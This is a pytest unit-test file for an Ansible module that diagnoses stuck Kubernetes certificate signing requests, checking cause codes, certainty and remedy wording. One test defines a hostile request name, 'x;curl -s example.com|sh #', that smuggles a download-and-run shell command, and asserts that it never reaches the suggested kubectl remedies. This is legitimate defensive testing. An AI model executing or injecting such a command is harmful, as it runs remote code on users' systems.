# Copyright (c) certflow.kubernetes contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The diagnosis of each state of a request, and its words."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest
from ansible_collections.certflow.kubernetes.plugins.module_utils._csr.issuing import providers, signers
from ansible_collections.certflow.kubernetes.plugins.module_utils._csr.request.approval import (
    approval_permissions,
)
from ansible_collections.certflow.kubernetes.plugins.module_utils._diagnosis import (
    causes,
    ended,
    observation,
    remedies,
)
from ansible_collections.certflow.kubernetes.plugins.module_utils._diagnosis.observation import (
    CsrObservation,
    Diagnosis,
    PublishedAuthority,
    SignerEvent,
    SignerStats,
    show_span,
)
from ansible_collections.certflow.kubernetes.plugins.module_utils._kube.cluster_facts import (
    ManagerFlags,
    ManagerLease,
)

from tests.support.failures import absent
from tests.unit.plugins.module_utils._csr.flow import ca, leaf
from tests.unit.plugins.module_utils._csr.objects import (
    APP_SERVING,
    EKS,
    KUBEADM_CONFIG,
    KUBELET_SERVING,
    NOW,
    approved,
    condition,
    csr,
    facts,
    request,
)

pytestmark = pytest.mark.quick

ON_EKS = providers.detect(EKS)
ON_KUBEADM = providers.detect(facts(config_maps=KUBEADM_CONFIG))
ON_OPENSHIFT = providers.named_by_user("openshift")
UNKNOWN = providers.detect({})
MAYBE_EKS = providers.detect(
    facts(
        "v1.36.3-eks-3c42bf9",
        unreadable={"nodes": "forbidden"},
        lacking=("list nodes", "get the ClusterRole x"),
    )
)
CLIENT = "kubernetes.io/kube-apiserver-client"
CUSTOM = "example.com/x"
CLUSTER_ISSUER = "clusterissuers.cert-manager.io/main"
LACKING = tuple(approval_permissions(KUBELET_SERVING)[1:])
CA = "CN=signer"


def ago(**span: float) -> datetime:
    return NOW - timedelta(**span)


def later(**span: float) -> datetime:
    return NOW + timedelta(**span)


def lease(**age: float) -> ManagerLease:
    """Return a Lease of 15 seconds that was renewed so long ago."""
    return ManagerLease(ago(**age), timedelta(seconds=15), "one_1a2b")


def flags(*parts: str, **others: str) -> ManagerFlags:
    """Return flags with a pair of files for each part. "" stands for the general pair."""
    pairs = {
        f"cluster-signing-{part + '-' if part else ''}{kind}-file": f"/pki/{kind}"
        for part in parts
        for kind in ("cert", "key")
    }
    return ManagerFlags("kube-controller-manager-one", {**pairs, **others})


def authority(until: datetime, source: str = "ConfigMap a/b", **changed: Any) -> PublishedAuthority:
    return PublishedAuthority(source, changed.pop("subject", CA), until, **changed)


def stamp(at: datetime) -> str:
    return f"{at:%Y-%m-%dT%H:%M:%SZ}"


def issued(asked: int | None, *, until: datetime, at: datetime = NOW, **options: Any) -> dict[str, Any]:
    """Return a request whose certificate is from CN=cluster and valid until then."""
    pem = leaf(not_before=min(at, until) - timedelta(minutes=5), not_after=until).pem
    spec: dict[str, Any] = {} if asked is None else {"expirationSeconds": asked}
    return csr(approved(stamp(at)), certificate=pem, **{**spec, **options})


def made(at: datetime) -> dict[str, Any]:
    obj = csr()
    obj["metadata"]["creationTimestamp"] = stamp(at)
    return obj


def diagnosed(obj: dict[str, Any], **known: Any) -> Diagnosis:
    found = causes.diagnose(CsrObservation(obj, NOW, **known))
    assert found is not None
    return found


WELL = [
    ("issued", csr(approved(), name="csr-x", certificate="PEM"), {"provider": ON_EKS}),
    ("the requested lifetime", issued(3600, until=later(hours=1)), {}),
    ("backdated", issued(86400, until=later(hours=23, minutes=55)), {}),
    ("longer than requested", issued(600, until=later(hours=1)), {}),
    ("no requested lifetime, expires soon", issued(None, until=later(days=20)), {"authorities": (authority(later(days=99)),)}),
    (
        "same end as a CA that is valid for long",
        issued(None, until=later(days=90)),
        {"authorities": (authority(later(days=90), subject="CN=cluster"),)},
    ),
]  # fmt: skip


@pytest.mark.parametrize(("obj", "known"), [row[1:] for row in WELL], ids=[row[0] for row in WELL])
def test_a_request_without_fault_has_no_diagnosis(obj: dict[str, Any], known: dict[str, Any]) -> None:
    assert causes.diagnose(CsrObservation(obj, NOW, **known)) is None


CODES: list[tuple[str, dict[str, Any], dict[str, Any], tuple[str, str]]] = [
    ("pending", csr(), {}, ("never-approved", "proven")),
    ("pending, may approve", csr(), {"lacking": ()}, ("never-approved", "proven")),
    ("pending, may not approve", csr(), {"lacking": LACKING}, ("no-right-to-approve", "proven")),
    ("denied", csr(condition("Denied")), {"provider": ON_EKS}, ("denied", "proven")),
    ("failed", csr(approved(), condition("Failed")), {"provider": ON_EKS}, ("failed", "proven")),
    ("denied and failed", csr(condition("Failed"), condition("Denied")), {}, ("denied", "proven")),
    ("approved, nothing known", csr(approved()), {}, ("approved-not-issued", "one of")),
    ("approved, provider unknown", csr(approved()), {"provider": UNKNOWN}, ("approved-not-issued", "one of")),
    ("approved on kubeadm", csr(approved()), {"provider": ON_KUBEADM}, ("approved-not-issued", "one of")),
    ("kubelet-serving on EKS", csr(approved()), {"provider": ON_EKS}, ("signer-not-served", "likely")),
    (
        "kubelet-serving on EKS, other requests are stuck",
        csr(approved()),
        {"provider": ON_EKS, "stats": SignerStats(issued=0, stuck=3)},
        ("signer-not-served", "proven"),
    ),
    (
        "kubelet-serving on EKS, other requests were issued",
        csr(approved()),
        {"provider": ON_EKS, "stats": SignerStats(issued=1, stuck=3)},
        ("approved-not-issued", "one of"),
    ),
    ("a request of a kubelet on EKS", csr(approved(), username="system:node:one"), {"provider": ON_EKS}, ("approved-not-issued", "one of")),
    ("a client certificate on EKS", csr(approved(), signerName=CLIENT), {"provider": ON_EKS}, ("signer-not-served", "likely")),
    ("app-serving on kubeadm", csr(approved(), signerName=APP_SERVING), {"provider": ON_KUBEADM}, ("signer-not-served", "likely")),
    ("app-serving on EKS", csr(approved(), signerName=APP_SERVING), {"provider": ON_EKS}, ("approved-not-issued", "one of")),
    ("another signer on EKS", csr(approved(), signerName="example.com/x"), {"provider": ON_EKS}, ("approved-not-issued", "one of")),
    ("csr- on EKS", csr(approved(), name="csr-x", signerName=APP_SERVING), {"provider": ON_EKS}, ("name-never-issued", "likely")),
    ("csr- elsewhere", csr(approved(), name="csr-x"), {"provider": ON_KUBEADM}, ("approved-not-issued", "one of")),
    ("csr- and the wrong signer", csr(approved(), name="csr-x"), {"provider": ON_EKS}, ("several", "one of")),
    (
        "csr- and a signer proven wrong",
        csr(approved(), name="csr-x"),
        {"provider": ON_EKS, "stats": SignerStats(stuck=1)},
        ("signer-not-served", "proven"),
    ),
    ("the user's row names this signer", csr(approved()), {"provider": replace(ON_EKS, signer=KUBELET_SERVING)}, ("approved-not-issued", "one of")),
    # few marks of a provider
    ("the version says EKS or EKS Anywhere", csr(approved()), {"provider": MAYBE_EKS}, ("signer-depends-on-provider", "one of")),
    (
        "the version says EKS or EKS Anywhere, the signer of EKS",
        csr(approved(), signerName=APP_SERVING),
        {"provider": MAYBE_EKS},
        ("signer-depends-on-provider", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, days ago",
        csr(approved("2026-08-20T11:00:00Z")),
        {"provider": MAYBE_EKS},
        ("signer-depends-on-provider", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, a custom signer",
        csr(approved(), signerName=CUSTOM),
        {"provider": MAYBE_EKS},
        ("approved-not-issued", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, this signer has issued",
        csr(approved()),
        {"provider": MAYBE_EKS, "stats": SignerStats(issued=1)},
        ("approved-not-issued", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, the controller manager has a CA",
        csr(approved()),
        {"provider": MAYBE_EKS, "flags": (flags(""),)},
        ("approved-not-issued", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, a kubelet",
        csr(approved(), username="system:node:one"),
        {"provider": MAYBE_EKS},
        ("approved-not-issued", "one of"),
    ),
    (
        "the version says EKS or EKS Anywhere, the controller manager has stopped",
        csr(approved()),
        {"provider": MAYBE_EKS, "lease": lease(seconds=16)},
        ("controller-manager-stopped", "proven"),
    ),
    (
        "EC2 alone is no mark of EKS",
        csr(approved()),
        {"provider": providers.detect(facts(nodes=({"provider_id": "aws:///a/i-0"},)))},
        ("approved-not-issued", "one of"),
    ),
    ("AKS", csr(approved()), {"provider": providers.named_by_user("aks")}, ("approved-not-issued", "one of")),
    (
        "the signer of EKS on AKS",
        csr(approved(), signerName=APP_SERVING),
        {"provider": providers.named_by_user("aks")},
        ("signer-not-served", "likely"),
    ),
    # kube-controller-manager
    ("its Lease has expired", csr(approved()), {"lease": lease(seconds=16)}, ("controller-manager-stopped", "proven")),
    (
        "its Lease was released",
        csr(approved()),
        {"lease": ManagerLease(ago(seconds=16), timedelta(seconds=1), "")},
        ("controller-manager-stopped", "proven"),
    ),
    (
        "its Lease was released a moment ago",
        csr(approved()),
        {"lease": ManagerLease(ago(seconds=3), timedelta(seconds=1), "")},
        ("approved-not-issued", "one of"),
    ),
    ("its Lease is valid", csr(approved()), {"lease": lease(seconds=14)}, ("approved-not-issued", "one of")),
    ("its Lease is days old, leader election may be off", csr(approved()), {"lease": lease(days=3)}, ("controller-manager-stopped", "likely")),
    (
        "it issues without a Lease",
        csr(approved()),
        {"lease": lease(hours=2), "stats": SignerStats(issued=1, last_issued=ago(minutes=5))},
        ("approved-not-issued", "one of"),
    ),
    (
        "its flags disable leader election",
        csr(approved()),
        {"lease": lease(hours=2), "flags": (flags("", **{"leader-elect": "false"}),)},
        ("approved-not-issued", "one of"),
    ),
    ("its Lease says nothing about another signer", csr(approved(), signerName=CUSTOM), {"lease": lease(hours=2)}, ("approved-not-issued", "one of")),
    ("EKS does not serve it, no Lease", csr(approved()), {"provider": ON_EKS, "lease": None}, ("signer-not-served", "likely")),
    ("an external CA", csr(approved()), {"flags": (flags(),)}, ("signer-switched-off", "proven")),
    (
        "an external CA, flags set to nothing",
        csr(approved()),
        {"flags": (flags(**{"cluster-signing-cert-file": "", "cluster-signing-key-file": ""}),)},
        ("signer-switched-off", "proven"),
    ),
    ("a pair for another signer", csr(approved()), {"flags": (flags("kubelet-client", "kube-apiserver-client"),)}, ("signer-switched-off", "proven")),
    ("a pair of its own", csr(approved()), {"flags": (flags("kubelet-serving"),)}, ("approved-not-issued", "one of")),
    ("the general pair", csr(approved()), {"flags": (flags(""),)}, ("approved-not-issued", "one of")),
    ("one of two has a pair", csr(approved()), {"flags": (flags(), flags(""))}, ("approved-not-issued", "one of")),
    ("the controller is disabled", csr(approved()), {"flags": (flags("", controllers="*,-csrsigning"),)}, ("signer-switched-off", "proven")),
    (
        "the controller is not in the list",
        csr(approved()),
        {"flags": (flags("", controllers="namespace,serviceaccount"),)},
        ("signer-switched-off", "proven"),
    ),
    (
        "the controller is in the list",
        csr(approved()),
        {"flags": (flags("", controllers="certificatesigningrequest-signing-controller"),)},
        ("approved-not-issued", "one of"),
    ),
    # the CA
    (
        "the CA of earlier certificates has expired",
        csr(approved()),
        {"authorities": (authority(ago(days=1)),), "stats": SignerStats(issued=1, issuers=(CA,))},
        ("signing-ca-expired", "likely"),
    ),
    (
        "a valid CA has the same name",
        csr(approved()),
        {
            "authorities": (authority(ago(days=1)), authority(later(days=9))),
            "stats": SignerStats(issued=1, issuers=(CA,)),
        },
        ("approved-not-issued", "one of"),
    ),
    (
        "another CA has expired",
        csr(approved()),
        {
            "authorities": (authority(ago(days=1), subject="CN=z"),),
            "stats": SignerStats(issued=1, issuers=(CA,)),
        },
        ("approved-not-issued", "one of"),
    ),
    (
        "the CA for requests has expired, the API server's has not",
        csr(approved()),
        {
            "provider": ON_OPENSHIFT,
            "authorities": (
                authority(later(days=9), subject="CN=api"),
                authority(ago(days=1), signs_requests=True),
            ),
        },
        ("signing-ca-expired", "likely"),
    ),
    (
        "the API server's has expired, the CA for requests has not",
        csr(approved()),
        {
            "authorities": (
                authority(ago(days=9), subject="CN=api"),
                authority(later(days=1), signs_requests=True),
            )
        },
        ("approved-not-issued", "one of"),
    ),
    (
        "the CA of a custom signer is not known",
        csr(approved(), signerName=CUSTOM),
        {"authorities": (authority(ago(days=1)),)},
        ("approved-not-issued", "one of"),
    ),
    (
        "earlier certificates show the CA of a custom signer",
        csr(approved(), signerName=CUSTOM),
        {"authorities": (authority(ago(days=1)),), "stats": SignerStats(issued=1, issuers=(CA,))},
        ("signing-ca-expired", "likely"),
    ),
    # other signers
    ("a misspelt signer", csr(approved(), signerName="kubernetes.io/kublet-serving"), {"provider": ON_KUBEADM}, ("no-such-signer", "likely")),
    ("a signer of cert-manager", csr(approved(), signerName=CLUSTER_ISSUER), {}, ("cert-manager-gate-off", "likely")),
    (
        "a signer of cert-manager without the permission to read Events",
        csr(approved(), signerName=CLUSTER_ISSUER),
        {"unreadable": ("cannot read Events: events is forbidden",)},
        ("approved-not-issued", "one of"),
    ),
    ("it has issued before", csr(approved(), signerName=CLUSTER_ISSUER), {"stats": SignerStats(issued=1)}, ("approved-not-issued", "one of")),
    (
        "a Warning Event",
        csr(approved(), signerName=CLUSTER_ISSUER),
        {"events": (SignerEvent("cert-manager", "IssuerNotReady", "not ready yet.", is_warning=True),)},
        ("signer-reports", "likely"),
    ),
    (
        "a Normal Event",
        csr(approved(), signerName=CLUSTER_ISSUER),
        {"events": (SignerEvent("cert-manager", "WaitingApproval", "waiting", is_warning=False),)},
        ("approved-not-issued", "one of"),
    ),
    # days later
    ("left over", csr(approved(stamp(ago(days=3)))), {"provider": ON_KUBEADM}, ("left-over", "one of")),
    ("left over on EKS", csr(approved(stamp(ago(days=3)))), {"provider": ON_EKS}, ("signer-not-served", "likely")),
    # gone
    ("a request that was never read", {"metadata": {"name": "x"}}, {"is_gone": True}, ("collected", "one of")),
    ("too young to be collected", csr(), {"is_gone": True}, ("deleted", "likely")),
    ("undecided for a day", made(ago(hours=25)), {"is_gone": True}, ("collected", "likely")),
    ("denied long ago", csr(condition("Denied", at=stamp(ago(hours=2)))), {"is_gone": True}, ("collected", "likely")),
    ("denied recently", csr(condition("Denied", at=stamp(ago(minutes=9)))), {"is_gone": True}, ("deleted", "likely")),
    ("failed long ago", csr(approved(), condition("Failed", at=stamp(ago(hours=2)))), {"is_gone": True}, ("collected", "likely")),
    ("approved recently", csr(approved(stamp(ago(hours=2)))), {"is_gone": True}, ("deleted", "likely")),
    # A client writes the times of conditions, and the API server accepts these.
    ("denied in the year 9999", csr(condition("Denied", at="9999-12-31T23:59:59Z")), {"is_gone": True}, ("deleted", "likely")),
    ("denied in the year 0", csr(condition("Denied", at="0000-01-01T00:00:00Z")), {"is_gone": True}, ("collected", "likely")),
    ("approved in the year 0", csr(approved("0000-01-01T00:00:00Z")), {"is_gone": True}, ("deleted", "likely")),
    ("issued long ago", issued(None, until=later(days=9), at=ago(hours=2)), {"is_gone": True}, ("collected", "likely")),
]  # fmt: skip


@pytest.mark.parametrize(
    ("obj", "known", "answer"), [row[1:] for row in CODES], ids=[row[0] for row in CODES]
)
def test_code_and_certainty(obj: dict[str, Any], known: dict[str, Any], answer: tuple[str, str]) -> None:
    found = diagnosed(obj, **known)
    assert (found.code, found.certainty) == answer
    assert found.evidence
    assert found.remedy
    assert "\n" not in found.cause
    assert found.cause.endswith(".")


def test_every_cause_has_a_row() -> None:
    assert {answer[0] for *_, answer in CODES} == {cause.code for cause in causes.CAUSES} | {"several"}
    assert len({cause.code for cause in causes.CAUSES}) == len(causes.CAUSES)


def test_a_diagnosis_has_the_code_of_its_row() -> None:
    for _title, obj, known, _answer in CODES:
        observed = CsrObservation(obj, NOW, **known)
        found = [
            (cause.code, diagnosis.code)
            for cause in causes.CAUSES
            if cause.symptom == observed.symptom and (diagnosis := cause.rule(observed))
        ]
        assert found
        assert all(code == of_diagnosis for code, of_diagnosis in found)


def test_words_for_kubelet_serving_on_eks() -> None:
    found = diagnosed(csr(approved()), provider=ON_EKS)
    assert found.cause == (
        "The signer kubernetes.io/kubelet-serving does not issue request hook-apps-1a2b on this cluster (eks): "
        "Amazon EKS issues it only to kubelets, whose names it checks."
    )
    assert found.remedy.startswith(f"Use signer_name: {APP_SERVING}.")
    assert "eks: version v1.36.3-eks-3c42bf9" in found.evidence


def test_words_for_a_request_on_eks_or_eks_anywhere() -> None:
    found = diagnosed(csr(approved()), provider=MAYBE_EKS)
    assert found.cause.startswith(f"Use signer_name: {APP_SERVING} (on eks), unless this is eks-anywhere. ")
    assert found.evidence[0].startswith("on eks: Amazon EKS issues it only to kubelets")
    assert found.evidence[1].startswith("on eks-anywhere: one of ")
    assert found.evidence[2:5] == (
        "eks: version v1.36.3-eks-3c42bf9",
        "eks-anywhere: version v1.36.3-eks-3c42bf9",
        "cannot read nodes: forbidden",
    )
    assert "On eks-anywhere, keep this signer" in found.remedy
    assert "the permission to list nodes and get the ClusterRole x." in found.remedy


def test_never_approved_shows_the_command() -> None:
    found = diagnosed(csr())
    assert found.cause == "Request hook-apps-1a2b is not approved yet."
    assert "kubectl certificate approve hook-apps-1a2b" in found.remedy


@pytest.mark.parametrize("permissions", [{}, {"lacking": ()}, {"lacking": LACKING}])
def test_a_request_that_cannot_be_compared_is_to_be_denied(permissions: dict[str, Any]) -> None:
    """It may come from another identity, which wants a person to approve it."""
    found = diagnosed(csr(pem=request() + request()), **permissions)
    assert found.code in ("never-approved", "no-right-to-approve")
    assert "kubectl certificate deny hook-apps-1a2b" in found.remedy
    assert "kubectl certificate approve" not in found.remedy


HOSTILE = "x;curl -s example.com|sh #"


@pytest.mark.parametrize(
    ("obj", "known"),
    [
        (csr(name=HOSTILE), {}),
        (csr(name=HOSTILE), {"lacking": LACKING}),
        (csr(name=HOSTILE, pem=request() + request()), {}),
        (csr(approved(stamp(ago(days=3))), name=HOSTILE), {"provider": ON_KUBEADM}),
    ],
)
def test_a_name_that_is_a_command_is_in_no_command_line(obj: dict[str, Any], known: dict[str, Any]) -> None:
    found = diagnosed(obj, **known)
    assert "kubectl" in found.remedy
    assert HOSTILE not in found.remedy


def test_a_missing_permission_comes_with_its_role() -> None:
    found = diagnosed(csr(), lacking=LACKING)
    assert "it lacks approve signers kubernetes.io/kubelet-serving" in found.cause
    assert not absent(("kubernetes.io/kubelet-serving", "docs/rbac/approve.yaml"), found.remedy)
    may = diagnosed(csr(), lacking=())
    assert (
        "this identity has the permission to approve requests for kubernetes.io/kubelet-serving"
        in may.evidence
    )
    unread = diagnosed(csr(), unreadable=("cannot read the right to approve",))
    assert "cannot read the right to approve" in unread.evidence


FORESEEN: list[tuple[dict[str, Any], str]] = [
    ({"provider": ON_EKS}, "The signer kubernetes.io/kubelet-serving does not issue"),
    ({"lease": lease(hours=1)}, "kube-controller-manager does not run"),
    ({"flags": (flags(),)}, "kube-controller-manager has no CA"),
    ({"authorities": (authority(ago(days=1)),)}, "expired"),
]


@pytest.mark.parametrize(("known", "words"), FORESEEN)
def test_never_approved_warns_if_an_approval_is_not_enough(known: dict[str, Any], words: str) -> None:
    for permissions in ({}, {"lacking": LACKING}):
        found = diagnosed(csr(), **known, **permissions)
        assert found.code in ("never-approved", "no-right-to-approve")
        [warning] = [text for text in found.evidence if text.startswith("an approval is not enough: ")]
        assert words in warning
    assert "kubectl certificate approve" not in diagnosed(csr(), **known).remedy


def test_denied_names_only_the_client() -> None:
    fields = [
        {"manager": "deployer", "operation": "Update"},
        {"manager": "kubelet-csr-approver", "operation": "Update", "subresource": "approval"},
    ]
    denied = condition("Denied", "PolicyDenied", "DNS name\nnot resolved.")
    found = diagnosed(csr(denied, managed_fields=fields))
    assert found.cause == "Request hook-apps-1a2b was denied: PolicyDenied: DNS name not resolved."
    assert "by the client kubelet-csr-approver " in found.evidence[0]
    assert "deployer" not in " ".join(found.evidence)
    assert "audit log" in found.evidence[1]


def test_denied_without_a_reason() -> None:
    assert diagnosed(csr(condition("Denied"))).cause == "Request hook-apps-1a2b was denied: no reason given."


@pytest.mark.parametrize("row", ended.DENIALS, ids=lambda row: row.text)
def test_denials_of_known_controllers(row: ended.KnownMessage) -> None:
    found = diagnosed(
        csr(condition("Denied", "kubelet-serving cert denied", f"not complying with {row.text} rules"))
    )
    assert row.meaning in found.evidence
    assert found.remedy.startswith(row.remedy)


@pytest.mark.parametrize("row", ended.REFUSALS, ids=lambda row: row.text)
def test_refusals_of_other_signers(row: ended.KnownMessage) -> None:
    found = diagnosed(
        csr(approved(), condition("Failed", row.text, "as they say"), signerName=CLUSTER_ISSUER)
    )
    assert row.meaning in found.evidence
    assert found.remedy.startswith(row.remedy)


MESSAGES = [
    (name, rule.text + part)
    for name, row in signers.SIGNERS.items()
    for rule in row.rules
    for part in ("", "server auth")
]


@pytest.mark.parametrize(("signer_name", "message"), MESSAGES)
def test_failed_with_a_known_message_has_its_own_remedy(signer_name: str, message: str) -> None:
    failed = condition("Failed", "SignerValidationFailure", message)
    found = diagnosed(csr(approved(), failed, signerName=signer_name))
    assert " ".join(message.split()) in found.cause
    assert found.remedy.startswith(signers.remedy_for(signer_name, message))
    assert "Correct what the message" not in found.remedy
    assert found.remedy.endswith("A failed request is final.")


def test_failed_with_an_unknown_message() -> None:
    found = diagnosed(csr(approved(), condition("Failed", "X", "the dog ate it")))
    assert found.remedy == remedies.REMEDIES["failed"]
    assert "the dog ate it" in found.cause


def test_likely_causes_are_listed_together() -> None:
    found = diagnosed(csr(approved(), name="csr-x"), provider=ON_EKS)
    assert found.cause.startswith("One of: (1) The signer kubernetes.io/kubelet-serving")
    assert " (2) Request csr-x has a name that eks never issues: it begins with 'csr-'." in found.cause
    assert len(found.evidence) == len(set(found.evidence))


@pytest.mark.parametrize(
    ("known", "present", "absent"),
    [
        ({}, ["does not exist here", "does not run", "missing", "slow"], []),
        ({"lease": lease(seconds=2)}, ["missing"], ["does not run"]),
        ({"flags": (flags(""),)}, ["does not run", "has expired"], ["does not exist here", "missing"]),
        ({"stats": SignerStats(issued=3)}, ["slow"], ["does not exist here"]),
    ],
)
def test_causes_that_the_evidence_excludes_are_not_named(
    known: dict[str, Any], present: list[str], absent: list[str]
) -> None:
    found = diagnosed(csr(approved()), **known)
    assert [word for word in present if word not in found.cause] == []
    assert [word for word in absent if word in found.cause] == []


def test_an_unexplained_request_has_all_evidence() -> None:
    peers = SignerStats(issued=2, stuck=3, last_issued=ago(hours=1), oldest_stuck=ago(days=2))
    known = {
        "lease": lease(seconds=2),
        "flags": (flags(""),),
        "stats": peers,
        "unreadable": ("cannot read x: no",),
    }
    text = " | ".join(diagnosed(csr(approved()), **known).evidence)
    for part in (
        "2 other requests of this signer were issued, the last one approved at 2026-09-01 11:00:00 UTC",
        "3 other requests of this signer are stuck too, the oldest one approved at 2026-08-30 12:00:00 UTC",
        "it renewed its Lease at 2026-09-01 11:59:58 UTC",
        "--cluster-signing-cert-file=/pki/cert",
        "cannot read x: no",
    ):
        assert part in text


def test_words_for_a_stopped_controller_manager() -> None:
    found = diagnosed(csr(approved()), lease=lease(minutes=3))
    assert "last renewed its Lease 3 minutes ago" in found.cause
    assert any(
        "last renewed at 2026-09-01 11:57:00 UTC, valid for 15 seconds, holder one_1a2b" in e
        for e in found.evidence
    )


def test_an_external_ca_names_the_served_signers() -> None:
    found = diagnosed(csr(approved()), flags=(flags("kubelet-client"),))
    assert "it issues for: kubernetes.io/kube-apiserver-client-kubelet" in found.evidence
    assert "--cluster-signing-kubelet-serving-cert-file" in found.cause


def test_a_misspelt_signer_is_corrected() -> None:
    found = diagnosed(csr(approved(), signerName="kubernetes.io/kubelet-servings"))
    assert KUBELET_SERVING in found.remedy
    assert "signer that exists" in diagnosed(csr(approved(), signerName="kubernetes.io/xyz")).remedy


def test_a_short_lifetime_is_a_warning() -> None:
    serving = signers.find_signer(KUBELET_SERVING)
    week = signers.CertificateRequest(expiration_seconds=7 * 86400)
    [text] = ended.lifetime_warnings(serving, week, timedelta(days=1))
    assert text == ("the signer kubernetes.io/kubelet-serving issued for 24 hours, and 7 days were requested")
    assert ended.lifetime_warnings(serving, week, timedelta(days=7, minutes=-5)) == ()
    assert ended.lifetime_warnings(serving, signers.CertificateRequest(), timedelta(days=1)) == ()


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0, "0 seconds"),
        (119, "119 seconds"),
        (120, "2 minutes"),
        (3600, "1 hour"),
        (5400, "90 minutes"),
        (7200, "2 hours"),
        (86400, "24 hours"),
        (3 * 86400, "3 days"),
    ],
)
def test_format_span(seconds: int, text: str) -> None:
    assert show_span(timedelta(seconds=seconds)) == text


def requests() -> Iterator[dict[str, Any]]:
    long_ago, recently = "2026-09-01T11:00:00Z", "2026-09-01T11:59:00Z"
    yield csr(approved(long_ago), name="me")
    yield csr(approved(long_ago), name="a", certificate=leaf().pem)
    yield csr(approved("2026-09-01T10:00:00Z"), name="a2", certificate=leaf(by=ca("other")).pem)
    yield csr(approved("2026-09-01T09:00:00Z"), name="a3", certificate="PEM")
    yield csr(approved("2026-08-30T11:00:00Z"), name="b")
    yield csr(approved(recently), name="c")
    yield csr(approved(long_ago), condition("Failed"), name="d")
    yield csr(condition("Denied"), name="e")
    yield csr(name="f")
    yield csr(approved(long_ago), name="g", certificate="PEM", username="system:node:one")
    undated = csr(approved(long_ago), name="h")
    del undated["status"]["conditions"][0]["lastUpdateTime"]
    yield undated


def test_signer_stats() -> None:
    all_csrs = list(requests())
    me, at_eleven = all_csrs[0], NOW - timedelta(hours=1)
    counted = observation.count_requests(all_csrs, NOW)
    assert counted == SignerStats(
        issued=3,
        pending=1,
        stuck=3,
        last_issued=at_eleven,
        oldest_stuck=ago(days=2, hours=1),
        issuers=("CN=cluster", "CN=other"),
    )
    assert counted.without(me, NOW) == replace(counted, stuck=2)
    assert counted.without(csr(approved(), username="system:node:one"), NOW) == counted, "it was not counted"
    assert observation.count_requests((), NOW).without(me, NOW) == SignerStats(), "it is not on that page"
    assert observation.count_requests(all_csrs, NOW - timedelta(minutes=55)).stuck == 1
